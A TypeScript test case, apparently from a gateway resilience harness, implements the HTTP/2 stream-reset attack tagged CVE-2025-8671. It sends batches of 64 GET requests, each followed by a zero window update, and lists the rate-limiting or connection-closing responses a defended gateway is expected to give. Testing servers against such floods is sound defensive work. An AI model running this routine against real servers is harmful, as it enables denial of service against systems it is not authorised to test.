// Requests that the gateway has to reset: a window update of 0 on each.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request, SMALL_PATH } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2025-8671',
  does: 'makes the gateway reset its streams, by window updates of 0',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM PROTOCOL_ERROR', 'GOAWAY PROTOCOL_ERROR'],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed', '429'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const get = request(head(target, 'GET', SMALL_PATH))
      return { next: () => connection.batch(64, (stream) => Buffer.concat([get(stream), h2.windowUpdate(stream, 0)])) }
    }),
}
